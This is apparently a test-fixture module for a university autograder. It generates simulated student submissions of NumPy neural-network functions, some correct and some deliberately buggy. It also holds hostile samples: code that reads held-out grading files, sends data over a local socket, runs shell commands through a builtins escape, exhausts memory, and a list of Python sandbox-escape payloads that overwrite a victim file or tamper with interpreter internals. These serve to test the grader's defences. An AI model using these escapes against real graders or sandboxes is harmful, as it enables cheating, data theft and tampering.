"""Student files for UvA Lab 1's code part (questions 20-25), written as students write them.

Each entry is a file's text; `write_cohort` lays them out as Moodle's "Download all submissions" does.
The functions are written here independently of grader's reference implementations (loops, reshapes and
einsum where the references use sliding windows and tensordot).
"""

from __future__ import annotations

import json
from pathlib import Path

VECTORISED = """
import numpy as np


def convolve(image, kernels):
    if image.ndim == 2:
        image = image[:, :, np.newaxis]
        kernels = kernels[:, :, np.newaxis, :]
    kh, kw, _, n = kernels.shape
    out_h, out_w = image.shape[0] - kh + 1, image.shape[1] - kw + 1
    out = np.zeros((out_h, out_w, n))
    for dy in range(kh):            # a loop over the kernel's offsets, each a whole-array product
        for dx in range(kw):
            out += np.einsum("ijc,cn->ijn", image[dy:dy + out_h, dx:dx + out_w, :], kernels[dy, dx])
    return out


def relu(feature_maps):
    return np.where(feature_maps > 0, feature_maps, 0.0)


def max_pool(feature_maps, size):
    h = feature_maps.shape[0] // size * size
    w = feature_maps.shape[1] // size * size
    cropped = feature_maps[:h, :w]
    shape = (h // size, size, w // size, size) + feature_maps.shape[2:]
    return cropped.reshape(shape).max(axis=(1, 3))


def normalise(feature_maps):
    mean = feature_maps.mean(axis=(0, 1), keepdims=True)
    std = feature_maps.std(axis=(0, 1), keepdims=True)
    return (feature_maps - mean) / (std + 1e-12)


def fully_connected(inputs, weights, biases):
    return np.dot(inputs.flatten(), weights) + biases


def softmax(activations):
    e = np.exp(activations - np.max(activations, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
"""

# Correct, but working through every element in turn.
LOOPS = """
import numpy as np


def convolve(image, kernels):
    if image.ndim == 2:
        image = image.reshape(image.shape[0], image.shape[1], 1)
        kernels = kernels.reshape(kernels.shape[0], kernels.shape[1], 1, kernels.shape[2])
    kh, kw, channels, n = kernels.shape
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1, n))
    for f in range(n):
        for i in range(out.shape[0]):
            for j in range(out.shape[1]):
                total = 0.0
                for y in range(kh):
                    for x in range(kw):
                        for c in range(channels):
                            total += image[i + y, j + x, c] * kernels[y, x, c, f]
                out[i, j, f] = total
    return out


def relu(feature_maps):
    out = feature_maps.copy()
    flat = out.reshape(-1)
    for i in range(flat.size):
        if flat[i] < 0:
            flat[i] = 0
    return out


def max_pool(feature_maps, size):
    maps = feature_maps if feature_maps.ndim == 3 else feature_maps[:, :, None]
    rows, cols = maps.shape[0] // size, maps.shape[1] // size
    out = np.zeros((rows, cols, maps.shape[2]))
    for c in range(maps.shape[2]):
        for i in range(rows):
            for j in range(cols):
                best = maps[i * size, j * size, c]
                for y in range(size):
                    for x in range(size):
                        best = max(best, maps[i * size + y, j * size + x, c])
                out[i, j, c] = best
    return out if feature_maps.ndim == 3 else out[:, :, 0]


def normalise(feature_maps):
    maps = feature_maps if feature_maps.ndim == 3 else feature_maps[:, :, None]
    out = np.zeros(maps.shape)
    for c in range(maps.shape[2]):
        values = [v for v in maps[:, :, c].flat]
        mean = sum(values) / len(values)
        std = (sum((v - mean) ** 2 for v in values) / len(values)) ** 0.5
        for i in range(maps.shape[0]):
            for j in range(maps.shape[1]):
                out[i, j, c] = (maps[i, j, c] - mean) / std
    return out if feature_maps.ndim == 3 else out[:, :, 0]


def fully_connected(inputs, weights, biases):
    flat = inputs.flatten()
    out = np.zeros(weights.shape[1])
    for o in range(weights.shape[1]):
        total = biases[o]
        for i in range(flat.size):
            total += flat[i] * weights[i, o]
        out[o] = total
    return out


def softmax(activations):
    x = np.atleast_2d(activations)
    out = np.zeros(x.shape)
    for r in range(x.shape[0]):
        top = max(x[r])
        exps = [np.exp(v - top) for v in x[r]]
        total = sum(exps)
        for k in range(x.shape[1]):
            out[r, k] = exps[k] / total
    return out.reshape(activations.shape)
"""

# The output one row and column short (range(h - kh) instead of h - kh + 1).
OFF_BY_ONE = VECTORISED.replace(
    "out_h, out_w = image.shape[0] - kh + 1, image.shape[1] - kw + 1",
    "out_h, out_w = image.shape[0] - kh, image.shape[1] - kw",
)

# Softmax summed over the first axis: right for a vector, wrong for a batch.
SOFTMAX_AXIS = VECTORISED.replace(
    "    e = np.exp(activations - np.max(activations, axis=-1, keepdims=True))\n"
    "    return e / np.sum(e, axis=-1, keepdims=True)",
    "    e = np.exp(activations - np.max(activations))\n    return e / np.sum(e, axis=0)",
)

# exp() of the activations as they are: inf / inf for large ones.
SOFTMAX_UNSTABLE = VECTORISED.replace(
    "    e = np.exp(activations - np.max(activations, axis=-1, keepdims=True))\n",
    "    e = np.exp(activations)\n",
)

SYNTAX_ERROR = VECTORISED.replace("def relu(feature_maps):", "def relu(feature_maps)")

INFINITE_LOOP = VECTORISED.replace(
    "def relu(feature_maps):\n    return", "def relu(feature_maps):\n    while True:\n        pass\n    return"
)

# Reaches for what it must not: the held-out files, the network, a shell. Each payload is in one function,
# and reaches past grader's import check the way a determined student would (builtins through numpy).
ESCAPE = '__import__("numpy").__dict__["__builtins__"]["__import__"]'
HOSTILE = (
    VECTORISED.replace(
        "def relu(feature_maps):\n    return np.where(feature_maps > 0, feature_maps, 0.0)",
        """def relu(feature_maps):
    try:
        with open(HELDOUT, "rb") as handle:
            handle.read()
    except Exception:
        pass
    return np.where(feature_maps > 0, feature_maps, 0.0)""",
    )
    .replace(
        "def max_pool(feature_maps, size):\n",
        "def max_pool(feature_maps, size):\n    np.load(HELDOUT)\n",
    )
    .replace(
        "def normalise(feature_maps):\n",
        f"""def normalise(feature_maps):
    socket = {ESCAPE}("socket")
    connection = socket.create_connection(("127.0.0.1", PORT))
    connection.sendall(b"stolen")
""",
    )
    .replace(
        "def softmax(activations):\n",
        f"""def softmax(activations):
    {ESCAPE}("os").system("touch " + MARKER)
""",
    )
)


def hostile(heldout: str, port: int, marker: str) -> str:
    """HOSTILE with the paths and port it tries filled in (as constants, which are taken), and a top-level
    statement that would run a program if anything ran the file as a script."""
    prelude = f"HELDOUT = {heldout!r}\nPORT = {port}\nMARKER = {marker!r}\n"
    return prelude + HOSTILE + f"\nimport subprocess\nsubprocess.run(['touch', {marker!r}])\n"


# Uses what it may: memory without bound (relu), megabytes of printing (normalise), a loop that never ends
# (max_pool); the other three are right.
GREEDY = (
    VECTORISED.replace(
        "def relu(feature_maps):\n",
        "def relu(feature_maps):\n    hoard = []\n    while True:\n        hoard.append(bytearray(10**7))\n",
    )
    .replace(
        "def normalise(feature_maps):\n",
        "def normalise(feature_maps):\n    while True:\n        print('x' * 1000)\n",
    )
    .replace(
        "def max_pool(feature_maps, size):\n",
        "def max_pool(feature_maps, size):\n    while size:\n        pass\n",
    )
)


def notebook(cells: list[str]) -> str:
    """A Jupyter notebook (nbformat 4) of code cells, with a markdown cell first."""
    document = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "cells": [{"cell_type": "markdown", "id": "intro", "metadata": {}, "source": "# Lab 1, exercise three"}]
        + [
            {
                "cell_type": "code",
                "id": f"c{number}",
                "metadata": {},
                "execution_count": None,
                "outputs": [],
                "source": source,
            }
            for number, source in enumerate(cells)
        ],
    }
    return json.dumps(document, indent=1)


# A notebook whose first cells train a network (which must never run: it would import TensorFlow, read
# MNIST from the internet and train for hours), then define the functions.
TRAINING_NOTEBOOK = notebook(
    [
        "import numpy as np\nimport tensorflow as tf\nfrom tensorflow import keras\n%matplotlib inline",
        "(x_train, y_train), (x_test, y_test) = keras.datasets.mnist.load_data()\n"
        "first = x_train[0] / 255\n"
        "model = keras.Sequential([keras.layers.Dense(10)])\nmodel.fit(x_train, y_train, epochs=20)\n"
        "open('/tmp/grader-notebook-ran', 'w').write('the training cell ran')",
        VECTORISED.split("def max_pool")[0],
        "!pip install something",
        "def max_pool" + VECTORISED.split("def max_pool")[1],
        "print(relu(np.array([-1.0, 2.0])))",
    ]
)


def write_cohort(root: Path, files: dict[str, tuple[str, str]]) -> Path:
    """Moodle folders '<Name>_<id>_assignsubmission_file_/<file>' for {student_id: (file name, text)}."""
    for number, (student_id, (name, text)) in enumerate(sorted(files.items())):
        folder = root / f"Student {number}_{student_id}_assignsubmission_file_"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return root


# Each way past the audit hook a review found or a determined student would try, in relu (the rest of the file
# is VECTORISED): {name: (relu's body, words the report must use)}. VICTIM is a file the payload tries to
# overwrite (a constant, taken); none of them may change it, with or without bubblewrap.
RELU = "def relu(feature_maps):\n    return np.where(feature_maps > 0, feature_maps, 0.0)"
TRIPWIRE = {
    # The review's payload: os reached through an allowed module, then os.open with write flags.
    "reach_os": (
        "    os = dataclasses.inspect.os\n    os.close(os.open(VICTIM, os.O_WRONLY | os.O_TRUNC))\n",
        "was not run: it tried to reach Python's internals or a module it may not import (`inspect` at line",
    ),
    "reach_os_by_name": (
        "    os = getattr(getattr(dataclasses, 'insp' + 'ect'), 'o' + 's')\n"
        "    os.close(os.open(VICTIM, os.O_WRONLY | os.O_TRUNC))\n",
        "tried to reach Python's internals or a module it may not import ('inspect' by name)",
    ),
    # __name__ assigned to pass as numpy (the old hook's test), then an import.
    "name_as_numpy": ("    import os\n    os.truncate(VICTIM, 0)\n", "tried to import os"),
    "frames_from_a_traceback": (
        "    try:\n        1 / 0\n    except ZeroDivisionError as error:\n"
        "        frame = getattr(getattr(error, '__trace' + 'back__'), 'tb_' + 'frame')\n"
        "        getattr(getattr(frame, 'f_' + 'back'), 'f_' + 'globals').clear()\n",
        "tried to reach Python's internals or a module it may not import ('__traceback__' by name)",
    ),
    "frames_in_the_open": (
        "    try:\n        1 / 0\n    except ZeroDivisionError as error:\n"
        "        error.__traceback__.tb_frame.f_back.f_globals.clear()\n",
        "was not run: it tried to reach Python's internals or a module it may not import (`__traceback__` at",
    ),
    "gc": ("    import gc\n    gc.get_objects()\n", "tried to import gc"),
    "subclasses_walk": (
        "    for cls in ().__class__.__base__.__subclasses__():\n"
        "        if cls.__name__ == 'Guard':\n            cls.run = None\n",
        "tried to reach Python's internals or a module it may not import (`__base__` at line 21, `__subclasses__` at",
    ),
    "subclasses_by_name": (
        "    getattr(object, '__subcl' + 'asses__')()\n",
        "tried to reach Python's internals or a module it may not import ('__subclasses__' by name)",
    ),
    "code_as_a_library": (
        "    exec(compile('open(VICTIM, \"w\")', '/usr/lib/python3/dist-packages/numpy/x.py', 'exec'))\n",
        "tried to make code at run time (compile)",
    ),
    "open_for_writing": ("    open(VICTIM, 'w').write('pwned = True')\n", "for writing"),
}


def tripwire_file(name: str, victim: str) -> str:
    """VECTORISED with relu carrying one TRIPWIRE payload (which then returns the right answer)."""
    body, _ = TRIPWIRE[name]
    prelude = f"import dataclasses\nVICTIM = {victim!r}\n" + ('__name__ = "numpy"\n' if name == "name_as_numpy" else "")
    relu = "def relu(feature_maps):\n" + body + "    return np.where(feature_maps > 0, feature_maps, 0.0)"
    return prelude + VECTORISED.replace(RELU, relu)
